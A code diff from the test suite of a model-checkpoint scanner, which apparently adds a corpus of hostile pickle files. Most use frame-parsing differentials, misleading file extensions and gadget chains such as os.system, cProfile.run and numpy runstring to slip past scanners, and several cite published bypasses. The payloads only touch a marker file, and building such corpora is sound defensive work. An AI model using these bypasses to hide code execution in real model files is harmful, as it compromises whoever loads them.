@@ -17,6 +17,7 @@ import struct
 import sys
 import zipfile
 from collections.abc import Callable
+from dataclasses import dataclass
 from pathlib import Path
 
 from ckpttool.formats.torch_legacy import MAGIC_NUMBER, PROTOCOL_VERSION
@@ -415,11 +416,329 @@ def corpus(marker: Path) -> dict[str, bytes]:
     return files
 
 
-def write_corpus(out: Path, marker: Path) -> list[Path]:
-    """Write every hostile input under ``out`` (used by ``python -m tests.support.adversarial``)."""
+# --- parser differentials and published scanner bypasses -----------------------------------
+#
+# Each builder takes the marker path its payload would create and returns the file's bytes; the
+# name in DIFFERENTIAL gives the container. ``tests/test_scan_differential.py`` loads every one
+# with torch.load(weights_only=False) in a throwaway child to learn whether its payload is live.
+
+
+def _frame(body: bytes) -> bytes:
+    return b"\x95" + struct.pack("<Q", len(body)) + body
+
+
+def _stack_call(marker: Path) -> bytes:
+    """Protocol-4 opcodes that call os.system (no PROTO, no STOP)."""
+    return (
+        _short_unicode("os") + _short_unicode("system") + b"\x93"
+        + _short_unicode(_command(marker)) + b"\x85R"
+    )  # fmt: skip
+
+
+def frame_split_argument(marker: Path) -> bytes:
+    """A BINUNICODE whose bytes run past its FRAME's end. torch.load (the C unpickler on a
+    BytesIO) drops the frame's last bytes and reads the string from after the frame, so it runs
+    the call that a linear reader (pickle.loads, ckpttool before, most scanners) reads as the
+    data of a SHORT_BINBYTES."""
+    payload = _stack_call(marker)
+    frame = _frame(b"X" + struct.pack("<I", 4) + b"abc")
+    return b"\x80\x04" + frame + b"wC" + bytes([len(payload) + 1]) + b"z" + payload + b"00N."
+
+
+def frame_split_line(marker: Path) -> bytes:
+    """A GLOBAL whose name line runs past its FRAME's end: torch.load reads the name from the
+    bytes after the frame (``system``), a linear reader reads ``xsystem``."""
+    frame = _frame(b"cposix\nx")
+    return b"\x80\x04" + frame + b"system\n" + _binunicode(_command(marker)) + b"\x85R."
+
+
+def frame_nested(marker: Path) -> bytes:
+    """A FRAME that begins inside another and runs past its end: torch.load skips the rest of
+    the outer frame and runs the call that a linear reader takes as SHORT_BINBYTES data."""
+    payload = _stack_call(marker)
+    after = payload + b"0N."
+    outer = _frame(b"\x95" + struct.pack("<Q", len(after)) + b"C" + bytes([len(payload)]))
+    return b"\x80\x04" + outer + after
+
+
+def frame_stop_inside(marker: Path) -> bytes:
+    """A FRAME holding bytes after the STOP: a legacy stream's next pickle starts at the STOP
+    for a linear reader and at the frame's end for the C unpickler on a file."""
+    return b"\x80\x04" + _frame(b"N." + b"\x80\x02" + global_reduce_p2(marker)[2:])
+
+
+def _lead(opcodes: bytes) -> Callable[[Path], bytes]:
+    """A protocol-0 payload behind a first opcode other than PROTO or MARK (and a POP)."""
+    return lambda marker: opcodes + global_reduce_p0(marker)
+
+
+def frame_first(marker: Path) -> bytes:
+    """A pickle that begins with a (regular) FRAME, no PROTO."""
+    return _frame(_stack_call(marker) + b".")
+
+
+def stop_with_open_mark(marker: Path) -> bytes:
+    """The call, then a MARK left open at STOP: the C unpickler returns the top of the stack;
+    ckpttool's walker refuses the pickle after having seen the call."""
+    return global_reduce_p2(marker)[:-1] + b"(N."
+
+
+def ext_after_payload(marker: Path) -> bytes:
+    """The call, then an EXT1 (an extension-registry lookup ckpttool does not read)."""
+    return global_reduce_p2(marker)[:-1] + b"0\x82\x01."
+
+
+def garbage_after_payload(marker: Path) -> bytes:
+    """The call, then a byte that is no opcode: torch.load fails, after running the call."""
+    return global_reduce_p2(marker)[:-1] + b"\xff."
+
+
+def deep_marks_then_payload(marker: Path) -> bytes:
+    """2,100 MARKs (past ckpttool's nesting limit, nothing to the C unpickler), then the call."""
+    return b"(" * 2100 + global_reduce_p0(marker)
+
+
+def memo_strings_stack_global(marker: Path) -> bytes:
+    """STACK_GLOBAL's names put in the memo, buried under other strings, fetched back: scanners
+    that look at the last strings pushed see ``junk``."""
+    body = _binunicode("os") + b"q\x00" + _binunicode("system") + b"q\x01" + b"00"
+    body += _binunicode("junk") + _binunicode("junk") + b"00" + b"h\x00h\x01\x93"
+    return b"\x80\x04" + body + _binunicode(_command(marker)) + b"\x85R."
+
+
+def dotted_name_p4(marker: Path) -> bytes:
+    """GLOBAL torch.serialization / os.system: from protocol 4 find_class follows dotted names,
+    so a harmless module's import of ``os`` reaches os.system."""
+    return b"\x80\x04ctorch.serialization\nos.system\n" + _binunicode(_command(marker)) + b"\x85R."
+
+
+def _call_p2(module: str, name: str, *args: str) -> bytes:
+    """``module.name(*args)`` for string arguments (protocol 2, no PROTO/STOP)."""
+    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(_binunicode, args)) + b"tR"
+
+
+def torch_collect_env_run(marker: Path) -> bytes:
+    """torch.utils.collect_env.run(command): a shell, in torch (modelscan issue #338)."""
+    return b"\x80\x02" + _call_p2("torch.utils.collect_env", "run", _command(marker)) + b"."
+
+
+def distutils_write_file(marker: Path) -> bytes:
+    """distutils.file_util.write_file(path, []): writes a file (CVE-2025-10156's gadget class)."""
+    return b"\x80\x02cdistutils.file_util\nwrite_file\n" + _binunicode(str(marker)) + b"]\x86R."
+
+
+def io_fileio(marker: Path) -> bytes:
+    """_io.FileIO(path, 'w'): creates a file; io.BytesIO is the data record next door."""
+    return b"\x80\x02" + _call_p2("_io", "FileIO", str(marker), "w") + b"."
+
+
+def operator_methodcaller(marker: Path) -> bytes:
+    """operator.methodcaller('touch')(PosixPath(path)): a method call on a data record."""
+    path = _call_p2("pathlib", "PosixPath", str(marker))
+    return b"\x80\x02" + _call_p2("operator", "methodcaller", "touch") + b"(" + path + b"tR."
+
+
+def getattr_method_call(marker: Path) -> bytes:
+    """builtins.getattr(PosixPath(path), 'touch')(): getattr outside any torch namespace."""
+    path = _call_p2("pathlib", "PosixPath", str(marker))
+    getter = b"cbuiltins\ngetattr\n(" + path + _binunicode("touch") + b"tR"
+    return b"\x80\x02" + getter + b")R."
+
+
+def import_module_getattr(marker: Path) -> bytes:
+    """getattr(importlib.import_module('os'), 'system')(command) (modelscan issue #331)."""
+    module = _call_p2("importlib", "import_module", "os")
+    getter = b"cbuiltins\ngetattr\n(" + module + _binunicode("system") + b"tR"
+    return b"\x80\x02" + getter + b"(" + _binunicode(_command(marker)) + b"tR."
+
+
+def nested_pickle_loads(marker: Path) -> bytes:
+    """pickle.loads(a pickle that calls os.system) (modelscan issue #267)."""
+    inner = global_reduce_p0(marker)
+    return b"\x80\x02c_pickle\nloads\n" + b"C" + bytes([len(inner)]) + inner + b"\x85R."
+
+
+def cprofile_run(marker: Path) -> bytes:
+    """cProfile.run(source): runs Python source (picklescan advisory GHSA-46h3-79wf-xr6c)."""
+    source = f"import os; os.system('{_command(marker)}')"
+    return b"\x80\x02" + _call_p2("cProfile", "run", source) + b"."
+
+
+def numpy_runstring(marker: Path) -> bytes:
+    """numpy.testing._private.utils.runstring(source, {}): exec in NumPy's test helpers."""
+    source = f"import os; os.system('{_command(marker)}')"
+    call = b"cnumpy.testing._private.utils\nrunstring\n(" + _binunicode(source) + b"}tR"
+    return b"\x80\x02" + call + b"."
+
+
+def py2_builtin_exec(marker: Path) -> bytes:
+    """__builtin__.exec (the Python 2 name protocol 0-2 pickles use, mapped by the unpickler)."""
+    source = f"import os; os.system('{_command(marker)}')"
+    return _text(f"c__builtin__\nexec\n(S'{source}'\ntR.")
+
+
+def partial_called(marker: Path) -> bytes:
+    """functools.partial(os.system, command), then the partial itself called."""
+    partial = b"cfunctools\npartial\n(cos\nsystem\n" + _binunicode(_command(marker)) + b"tR"
+    return b"\x80\x02" + partial + b")R."
+
+
+def partial_rebound(marker: Path) -> bytes:
+    """functools.partial(torch relu) whose BUILD rebinds it to posix.system, then called."""
+    partial = b"cfunctools\npartial\nctorch.nn.functional\nrelu\n\x85R"
+    state = b"(cposix\nsystem\n" + _binunicode(_command(marker)) + b"\x85NNtb"
+    return b"\x80\x02" + partial + state + b")R."
+
+
+def getattr_torch_unlisted(marker: Path) -> bytes:
+    """getattr(torch._C._VariableFunctionsClass, 'from_file'): a torch namespace, a name that
+    is no tensor function (torch.from_file opens a path)."""
+    getter = b"cbuiltins\ngetattr\nctorch._C\n_VariableFunctionsClass\n" + _binunicode("from_file")
+    return b"\x80\x02" + getter + b"\x86R(" + _binunicode(str(marker)) + b"\x88K\x01tR."
+
+
+#: The differential corpus by file name (the suffix gives the container; see ``corpus``).
+DIFFERENTIAL: dict[str, Callable[[Path], bytes]] = {
+    "frame_split_argument.zip.pth": lambda m: torch_zip(frame_split_argument(m)),
+    "frame_split_argument.legacy.pth": lambda m: legacy_stream(frame_split_argument(m)),
+    "frame_split_argument.pkl": frame_split_argument,
+    "frame_split_line.zip.pth": lambda m: torch_zip(frame_split_line(m)),
+    "frame_nested.zip.pth": lambda m: torch_zip(frame_nested(m)),
+    "frame_nested.legacy.pth": lambda m: legacy_stream(frame_nested(m)),
+    "frame_stop_inside.legacy.pth": lambda m: legacy_stream(frame_stop_inside(m)),
+    # a pickle under any name and any first opcode (CVE-2025-10155: a scanner that decides by
+    # the extension, or by the first bytes, skips it)
+    "first_opcode_V.json": _lead(b"Vmodel\n0"),
+    "first_opcode_S.txt": _lead(b"S'model'\n0"),
+    "first_opcode_N.bin": _lead(b"N0"),
+    "first_opcode_I.md": _lead(b"I1\n0"),
+    "first_opcode_K.png": _lead(b"K\x010"),
+    "first_opcode_empty_tuple.yaml": _lead(b")0"),
+    "first_opcode_X.cfg": _lead(_binunicode("model") + b"0"),
+    "first_opcode_G.npy": _lead(b"G" + struct.pack(">d", 1.0) + b"0"),
+    "first_opcode_frame.pt": frame_first,
+    "stop_with_open_mark.pkl": stop_with_open_mark,
+    "stop_with_open_mark.legacy.pth": lambda m: legacy_stream(stop_with_open_mark(m)),
+    "ext_after_payload.pkl": ext_after_payload,
+    "ext_after_payload.legacy.pth": lambda m: legacy_stream(ext_after_payload(m)),
+    "garbage_after_payload.pkl": garbage_after_payload,
+    "garbage_after_payload.zip.pth": lambda m: torch_zip(garbage_after_payload(m)),
+    "deep_marks_then_payload.pkl": deep_marks_then_payload,
+    "memo_strings_stack_global.zip.pth": lambda m: torch_zip(memo_strings_stack_global(m)),
+    "dotted_name_p4.zip.pth": lambda m: torch_zip(dotted_name_p4(m)),
+    "torch_collect_env_run.zip.pth": lambda m: torch_zip(torch_collect_env_run(m)),
+    "distutils_write_file.zip.pth": lambda m: torch_zip(distutils_write_file(m)),
+    "io_fileio.zip.pth": lambda m: torch_zip(io_fileio(m)),
+    "operator_methodcaller.zip.pth": lambda m: torch_zip(operator_methodcaller(m)),
+    "getattr_method_call.zip.pth": lambda m: torch_zip(getattr_method_call(m)),
+    "import_module_getattr.zip.pth": lambda m: torch_zip(import_module_getattr(m)),
+    "nested_pickle_loads.zip.pth": lambda m: torch_zip(nested_pickle_loads(m)),
+    "cprofile_run.zip.pth": lambda m: torch_zip(cprofile_run(m)),
+    "numpy_runstring.zip.pth": lambda m: torch_zip(numpy_runstring(m)),
+    "py2_builtin_exec.legacy.pth": lambda m: legacy_stream(py2_builtin_exec(m)),
+    "py2_builtin_exec.pkl": py2_builtin_exec,
+    "partial_called.zip.pth": lambda m: torch_zip(partial_called(m)),
+    "partial_rebound.zip.pth": lambda m: torch_zip(partial_rebound(m)),
+    "getattr_torch_unlisted.zip.pth": lambda m: torch_zip(getattr_torch_unlisted(m)),
+}
+
+
+def hostile_pickles(marker_for: Callable[[str], Path]) -> dict[str, bytes]:
+    """Every code-execution file: the payloads in each container, the unlisted callable and the
+    differential corpus; ``marker_for(name)`` is the marker the file's payload would create."""
+    files: dict[str, bytes] = {}
+    for name, build in {**PAYLOADS, "unlisted_callable_p2": unlisted_callable_p2}.items():
+        for suffix, wrap in (
+            (".pkl", _same),
+            (".zip.pth", torch_zip),
+            (".legacy.pth", legacy_stream),
+        ):
+            files[name + suffix] = wrap(build(marker_for(name + suffix)))
+    files["build_on_allowed_global.zip.pth"] = torch_zip(build_on_allowed_global())
+    for name, build_file in DIFFERENTIAL.items():
+        files[name] = build_file(marker_for(name))
+    return files
+
+
+def _same(data: bytes) -> bytes:
+    return data
+
+
+# --- the benign side: what torch.save writes for common objects ------------------------------
+
+
+@dataclass
+class TrainConfig:
+    """A dataclass config, as training scripts save them (a class torch.load imports)."""
+
+    lr: float = 3e-4
+    layers: int = 2
+    name: str = "tiny"
+
+
+def benign_objects() -> dict[str, object]:
+    """Common things people torch.save, by name (torch and NumPy imported here, not at import)."""
+    import argparse
+    import functools
+
+    import numpy
+    import torch
+
+    torch.manual_seed(0)
+    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.LayerNorm(3), torch.nn.GELU())
+    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-3)
+    model(torch.ones(2, 4)).sum().backward()
+    optimizer.step()
+    args = argparse.Namespace(lr=1e-3, epochs=3, name="run")
+    return {
+        "state_dict": model.state_dict(),
+        "optimizer": optimizer.state_dict(),
+        "module": model,
+        "resume": {"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3,
+                   "rng": torch.get_rng_state(), "args": args, "config": TrainConfig()},
+        "dataclass_config": {"config": TrainConfig(), "step": 7},
+        "namespace": {"args": args},
+        "numpy": {"weights": numpy.arange(6, dtype=numpy.float32).reshape(2, 3),
+                  "ids": numpy.arange(3), "scale": numpy.float64(0.5)},
+        "partial_configs": {
+            "optimizer": functools.partial(torch.optim.AdamW, lr=3e-4, weight_decay=0.1),
+            "act": functools.partial(torch.nn.functional.gelu, approximate="tanh"),
+            "norm": functools.partial(torch.nn.LayerNorm, eps=1e-5),
+            "funcs": [torch.relu, torch.tanh, torch.nn.functional.silu, torch.nn.init.normal_,
+                      torch.Tensor.add],
+        },
+    }  # fmt: skip
+
+
+def write_benign(out: Path) -> list[Path]:
+    """Each of :func:`benign_objects` saved by torch.save in both formats (zip, legacy) and
+    every pickle protocol torch accepts (2 to 5)."""
+    import torch
+
     out.mkdir(parents=True, exist_ok=True)
     paths = []
-    for name, data in corpus(marker).items():
+    for name, obj in benign_objects().items():
+        for zipped in (True, False):
+            for protocol in (2, 3, 4, 5):
+                path = out / f"{name}.{'zip' if zipped else 'legacy'}.p{protocol}.pt"
+                torch.save(obj, path, pickle_protocol=protocol,
+                           _use_new_zipfile_serialization=zipped)  # fmt: skip
+                paths.append(path)
+    return paths
+
+
+def write_corpus(out: Path, marker: Path, differential: bool = False) -> list[Path]:
+    """Write every hostile input under ``out`` (``python -m tests.support.adversarial`` adds the
+    differential corpus, in ``out/differential``)."""
+    out.mkdir(parents=True, exist_ok=True)
+    paths = []
+    files = corpus(marker)
+    if differential:
+        files |= {
+            f"differential/{n}": data for n, data in hostile_pickles(lambda n: marker).items()
+        }
+        (out / "differential").mkdir(exist_ok=True)
+    for name, data in files.items():
         path = out / name
         path.write_bytes(data)
         paths.append(path)
@@ -428,5 +747,5 @@ def write_corpus(out: Path, marker: Path) -> list[Path]:
 
 if __name__ == "__main__":
     target = Path(sys.argv[1] if len(sys.argv) > 1 else "adversarial-corpus")
-    written = write_corpus(target, target / "PWNED")
+    written = write_corpus(target, target / "PWNED", differential=True)
     print(f"wrote {len(written)} files to {target}")
